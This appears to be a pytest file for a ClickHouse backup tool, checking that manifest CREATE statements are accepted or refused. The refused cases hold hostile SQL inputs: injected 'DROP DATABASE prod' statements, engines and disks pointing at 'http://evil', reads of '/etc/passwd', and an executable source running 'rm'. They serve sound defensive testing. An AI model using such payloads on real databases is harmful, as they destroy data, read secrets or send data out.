"""A manifest's SQL is data from outside: only what a backup can hold is ever run."""

import pytest

from calve.archive.create import check_create, check_function, check_scratch
from calve.model.errors import PermanentError

NAME = ("db", "t")
TABLE = "CREATE TABLE db.t (`id` UInt64) ENGINE = MergeTree ORDER BY id"


@pytest.mark.parametrize(
    ("create", "engine"),
    [
        (TABLE, "MergeTree"),
        (f"{TABLE} SETTINGS index_granularity = 8192, disk = 'fast', storage_policy = 'hot'", "MergeTree"),
        (f"{TABLE} SETTINGS disk = disk(type = 'local', path = '/x/'), index_granularity = 8192", "MergeTree"),
        (f"{TABLE} SETTINGS disk = disk(name = 'n', type = local, path = '/x/')", "MergeTree"),
        ("CREATE TABLE db.t UUID '11111111-2222-3333-4444-555555555555' (`a;b` String DEFAULT '; DROP TABLE x',"
         " `c` UInt8 DEFAULT (-1), `as` UInt8) ENGINE = ReplacingMergeTree(c) ORDER BY tuple()"
         " COMMENT 'it''s -- here'", "ReplacingMergeTree"),
        ("CREATE TABLE db.t (`a` UInt8) ENGINE = Buffer('db', 'x', 1, 1, 1, 1, 1, 1, 1)", "Buffer"),
        ("CREATE VIEW db.t (`a` UInt8) AS SELECT a.a FROM db.x AS a INNER JOIN db.y AS b ON a.a = b.a"
         " WHERE disk = b.disk", "View"),
        ("CREATE MATERIALIZED VIEW db.t TO db.u (`a` UInt8) AS SELECT a FROM db.x", "MaterializedView"),
        ("CREATE MATERIALIZED VIEW db.t (`a` UInt8) ENGINE = MergeTree ORDER BY a AS SELECT a FROM db.x",
         "MaterializedView"),
        ("CREATE DICTIONARY db.t (`a` UInt64) PRIMARY KEY a SOURCE(CLICKHOUSE(TABLE 'x' DB 'db')) LAYOUT(FLAT())"
         " LIFETIME(MIN 0 MAX 10)", "Dictionary"),
        ("CREATE TABLE db.t (`a` UInt64) ENGINE = Dictionary('db.d')", "Dictionary"),
        ("CREATE WINDOW VIEW db.t (`a` UInt64) ENGINE = Memory AS SELECT count() AS a FROM db.x", "WindowView"),
    ],
)  # fmt: skip
def test_what_clickhouse_writes_of_its_tables_is_accepted(create: str, engine: str) -> None:
    check_create(create, NAME, engine)


@pytest.mark.parametrize(
    ("create", "engine", "why"),
    [
        (f"{TABLE}; DROP DATABASE prod", "MergeTree", "';'"),
        (f"{TABLE} -- '\n; DROP DATABASE prod --'", "MergeTree", "'--'"),
        (f"{TABLE} /* ' */ ; DROP DATABASE prod /* ' */", "MergeTree", "'/\\*'"),
        (f"{TABLE} # '\n; DROP DATABASE prod #'", "MergeTree", "'#"),
        (f"{TABLE} COMMENT $a$ ' $a$; DROP DATABASE prod", "MergeTree", "'\\$"),
        (f"{TABLE} COMMENT ‘x’; DROP DATABASE prod", "MergeTree", "'‘"),
        (f"{TABLE} COMMENT 'unfinished", "MergeTree", "has no place"),
        ("DROP TABLE db.t", "MergeTree", "not a CREATE TABLE"),
        ("CREATE OR REPLACE TABLE db.t (a UInt8) ENGINE = MergeTree", "MergeTree", "not a CREATE TABLE"),
        ("CREATE USER t IDENTIFIED BY 'x'", "MergeTree", "not a CREATE TABLE"),
        ("CREATE VIEW db.t AS SELECT 1", "MergeTree", "not a CREATE TABLE"),
        ("CREATE TABLE db.other (a UInt8) ENGINE = MergeTree ORDER BY a", "MergeTree", "does not make db.t"),
        ("CREATE TABLE prod.t (a UInt8) ENGINE = MergeTree ORDER BY a", "MergeTree", "does not make db.t"),
        ("CREATE TABLE db.t (a UInt8) ENGINE = URL('http://evil', CSV)", "MergeTree", "engine is not MergeTree"),
        ("CREATE TABLE db.t ON CLUSTER c (a UInt8) ENGINE = MergeTree ORDER BY a", "MergeTree", "cluster"),
        (f"{TABLE} AS SELECT * FROM url('http://evil', CSV)", "MergeTree", "from a query"),
        (f"{TABLE} SETTINGS disk = disk(type = s3, endpoint = 'http://evil')", "MergeTree", "disk of its own"),
        (f"{TABLE} SETTINGS disk = disk(type = cache, disk = disk(type = local, path = '/x/'))", "MergeTree",
         "disk of its own"),
        (f"{TABLE} SETTINGS disk = disk(type = local, path = concat('/', 'x'))", "MergeTree", "disk of its own"),
        (f"{TABLE} SETTINGS disk = disk(type = local, path = '/x/', metadata_type = web)", "MergeTree",
         "disk of its own"),
        (f"{TABLE} SETTINGS disk = disk(type = local, path = '[HIDDEN]')", "MergeTree", "disk of its own"),
        (f"{TABLE} SETTINGS disk = disk(type = local)", "MergeTree", "disk of its own"),
        (f"{TABLE} SETTINGS disk = disk(name = 'x')", "MergeTree", "disk of its own"),
        (f"{TABLE} INTO OUTFILE '/tmp/x'", "MergeTree", "file"),
        ("CREATE MATERIALIZED VIEW db.t ENGINE = MergeTree ORDER BY a POPULATE AS SELECT 1 AS a",
         "MaterializedView", "at once"),
        ("CREATE DICTIONARY db.t (`a` UInt64) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'rm')) LAYOUT(FLAT())",
         "Dictionary", "program"),
    ],
)  # fmt: skip
def test_whatever_else_is_refused(create: str, engine: str, why: str) -> None:
    with pytest.raises(PermanentError, match=why) as refused:
        check_create(create, NAME, engine)
    assert refused.value.code == "backup_statement"


def test_a_function_is_the_one_that_it_is_kept_for() -> None:
    check_function("CREATE FUNCTION twice AS x -> (x * 2)", "twice")
    for create in (
        "CREATE FUNCTION other AS x -> x",
        "CREATE FUNCTION twice AS x -> x; DROP TABLE db.t",
        "CREATE FUNCTION twice ON CLUSTER c AS x -> x",
        "CREATE TABLE twice (a UInt8) ENGINE = Memory",
        "CREATE OR REPLACE FUNCTION twice AS x -> x",
    ):
        with pytest.raises(PermanentError, match="a statement of the backup is refused"):
            check_function(create, "twice")


def test_a_scratch_table_is_one_table_of_the_family() -> None:
    check_scratch("CREATE TABLE {table} (`id` UInt64) ENGINE = ReplacingMergeTree ORDER BY id")
    for create in (
        "CREATE TABLE {table} (`id` UInt64) ENGINE = File(CSV, '/etc/passwd')",
        "CREATE TABLE {table} (`id` UInt64) ENGINE = MergeTree ORDER BY id; DROP TABLE x",
        "CREATE TABLE other (`id` UInt64) ENGINE = MergeTree ORDER BY id",
        "CREATE TABLE {table} AS {table}",
        "CREATE TABLE {table} (`id` String DEFAULT file('/etc/passwd')) ENGINE = MergeTree ORDER BY id",
        "CREATE TABLE {table} (`id` String DEFAULT (SELECT 1)) ENGINE = MergeTree ORDER BY id",
        "CREATE TABLE {table} (`id` UInt64) ENGINE = ReplicatedMergeTree('/x', 'y') ORDER BY id",
        "CREATE TABLE {table} (`id` UInt64) ENGINE = MergeTree ORDER BY id SETTINGS disk = disk(type = local, path = '/x/')",
    ):
        with pytest.raises(PermanentError, match="a statement of the backup is refused"):
            check_scratch(create)
